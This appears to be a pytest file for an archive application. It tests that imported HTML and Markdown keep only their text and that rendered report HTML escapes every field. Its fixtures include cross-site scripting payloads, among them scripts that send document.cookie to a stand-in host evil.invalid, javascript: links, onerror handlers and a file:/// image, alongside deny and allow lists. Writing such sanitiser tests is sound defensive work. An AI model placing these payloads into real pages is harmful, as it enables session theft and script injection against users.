"""HTML safety, import and rendering side: a hostile page is imported as its text only, and the HTML the
reader and printing show holds report text escaped, never a tag, link or resource of its own."""
import datetime as dt

import lxml.html

from archive_app.core import render
from archive_app.core.models import PersonRole, Report

HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Biên bản họp chi bộ</title>
<meta http-equiv="refresh" content="0; url=http://evil.invalid/refresh">
<base href="http://evil.invalid/">
<link rel="stylesheet" href="http://evil.invalid/style.css">
<style>body { background: url(http://evil.invalid/bg.png) } @import url("http://evil.invalid/i.css");</style>
<script src="http://evil.invalid/x.js"></script>
<script>document.location = "http://evil.invalid/?c=" + document.cookie;</script>
</head><body onload="alert('onload')">
<h1>Biên bản họp chi bộ tháng 10</h1>
<p style="background-image: url('http://evil.invalid/p.png')">Chi bộ họp bàn công tác dân vận khéo.</p>
<p>Xem <a href="javascript:alert('link')">văn bản gốc</a> và <a href="data:text/html,<script>alert(1)</script>">
phụ lục</a>.</p>
<img src="http://evil.invalid/pixel.png" onerror="alert('img')">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk">
<iframe src="http://evil.invalid/frame">Khung trong</iframe>
<object data="http://evil.invalid/x.swf"><param name="movie" value="x.swf">Đối tượng</object>
<embed src="http://evil.invalid/x.swf">
<form action="http://evil.invalid/post"><input name="q" value="gia-tri-bi-mat"><textarea>chữ trong ô</textarea>
<button onclick="alert('btn')">Gửi đi</button><select><option>lựa chọn</option></select></form>
<svg><script>alert('svg')</script><image href="http://evil.invalid/s.png"/></svg>
<noscript><img src="http://evil.invalid/noscript.png">Bật JavaScript</noscript>
<template><script>alert('template')</script></template>
<!-- <script>alert('comment')</script> -->
<p>Đồng chí Nguyễn Tiến Sữ chủ trì; thư ký Trần Thị Hoa.</p>
<video src="http://evil.invalid/v.mp4" poster="http://evil.invalid/poster.png"></video>
</body></html>"""
FORBIDDEN = ("alert", "evil.invalid", "javascript", "data:", "url(", "document.", "onerror", "onload", "onclick",
             "gia-tri-bi-mat", "chữ trong ô", "Gửi đi", "lựa chọn", "Bật JavaScript", "Khung trong", "Đối tượng",
             "<", ">", "base64")


def test_a_hostile_page_is_imported_as_text_only(archive, tmp_path):
    page = tmp_path / "bien-ban.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    result = archive.import_paths([page])
    assert len(result.imported) == 1, result.items
    report = archive.report(result.imported[0].id)
    stored = " ".join([report.title, report.body, report.organisation or "", report.location or "",
                       report.author or "", *(p.name + p.role for p in report.persons)])
    for word in FORBIDDEN:
        assert word not in stored, word
    assert "Chi bộ họp bàn công tác dân vận khéo." in report.body
    assert "văn bản gốc" in report.body and "phụ lục" in report.body       # a link keeps its words
    assert "Nguyễn Tiến Sữ" in report.body
    assert archive.original(report.id) == page.read_bytes()      # the original is kept as it was, for fixity


def test_markdown_with_html_inside_keeps_only_its_text(archive, tmp_path):
    plain = tmp_path / "bien-ban.md"                 # Markdown with a few tags: read as Markdown
    plain.write_text("# Biên bản họp tổ\n\nTổ họp bàn việc **vệ sinh** môi trường.\n\n"
                     "<script>fetch('http://evil.invalid/'+document.cookie)</script>\n\n"
                     "Xem [bản gốc](javascript:alert(1)) và ![ảnh](http://evil.invalid/a.png).\n\n"
                     "<iframe src='http://evil.invalid/f'>khung</iframe><embed src=x.swf>\n\n"
                     "<!-- <script>alert(3)</script> -->Kết thúc lúc 11 giờ.\n\n<style>p{color:red}",
                     encoding="utf-8")
    html_body = tmp_path / "bai-viet.md"             # Markdown whose body is HTML (a blog export)
    html_body.write_text("---\ntitle: Hội nghị dân vận\n---\n<p>Hội nghị bàn công tác dân vận.</p>\n"
                         "<p>Xem [văn bản](javascript:alert(1)) <img src=x onerror=alert(2)></p>\n"
                         "<script>alert(3)</script><p>Bế mạc.</p>", encoding="utf-8")
    result = archive.import_paths([plain, html_body])
    assert len(result.imported) == 2, result.items
    first, second = (archive.report(i.id) for i in result.imported)
    for report in (first, second):
        for word in ("alert", "evil.invalid", "javascript", "fetch", "document.", "onerror", "khung", "color:red",
                     "<", ">"):
            assert word not in report.body, (word, report.body)
    assert "Tổ họp bàn việc vệ sinh môi trường." in first.body and "Kết thúc lúc 11 giờ." in first.body
    assert "Xem bản gốc và ." in first.body
    assert second.body.split("\n\n") == ["Hội nghị bàn công tác dân vận.", "Xem văn bản", "Bế mạc."]


STAMP = dt.datetime(2024, 1, 2, 3, 4, 5)
ATTACKS = ['<img src="http://evil.invalid/pixel.png">', "<script>alert('x')</script>",
           '<a href="javascript:alert(1)">bấm vào đây</a>', '<iframe src="http://evil.invalid/"></iframe>',
           '<link rel="stylesheet" href="http://evil.invalid/s.css">', "<style>p{background:url(http://evil.invalid/b)}",
           '"><img src=x onerror=alert(1)>', '<img src="file:///etc/hostname">', "&lt;b&gt; &amp; &#60;i&#62;",
           '<object data="http://evil.invalid/x"></object>', "</td></tr></table><form><input value=x>"]


def hostile_report(rid: int = 7) -> Report:
    joined = " ".join(ATTACKS)
    return Report(id=rid, title="Họp " + ATTACKS[0], date=dt.date(2021, 10, 14), kind=ATTACKS[1],
                  organisation=ATTACKS[2], location=ATTACKS[3], author=ATTACKS[4],
                  body="Đoạn mở đầu về evil và dân vận.\n\n" + "\n\n".join(ATTACKS) + "\n\nhết " + joined,
                  summary=None, keywords=(), persons=(PersonRole(ATTACKS[5], ATTACKS[6], True),),
                  tags=(ATTACKS[7], ATTACKS[9]), source_name="x.html", source_format="html", source_ref=ATTACKS[10],
                  original_sha256=None, similar_to=None, imported_at=STAMP, updated_at=STAMP)


ALLOWED_TAGS = {"html", "body", "div", "p", "table", "tr", "td", "th", "b", "i", "span", "br", "hr", "a"}
ALLOWED_ATTRIBUTES = {"style", "align", "valign", "cellspacing", "cellpadding", "name", "width"}


def test_rendered_html_escapes_every_field():
    report = hostile_report()
    for html in (render.report_html(report, {"evil", "img"}, tag_colours={ATTACKS[7]: "red;background:url(x)"}),
                 render.report_html(report, printing=True, lang="en"),
                 render.cover_html([(report, 1)])):
        tree = lxml.html.fromstring(f"<div>{html}</div>")
        for element in tree.iter():
            assert element.tag in ALLOWED_TAGS, element.tag
            assert set(element.attrib) <= ALLOWED_ATTRIBUTES, dict(element.attrib)
            assert "url(" not in element.get("style", "") and "javascript" not in element.get("style", "")
            if element.tag == "a":
                assert set(element.attrib) == {"name"}
        assert "<script" not in html and "<img" not in html and "<iframe" not in html
    text = lxml.html.fromstring(f"<div>{render.report_html(report)}</div>").text_content()
    for attack in ATTACKS:
        assert attack in text, attack                   # shown as the very text it is
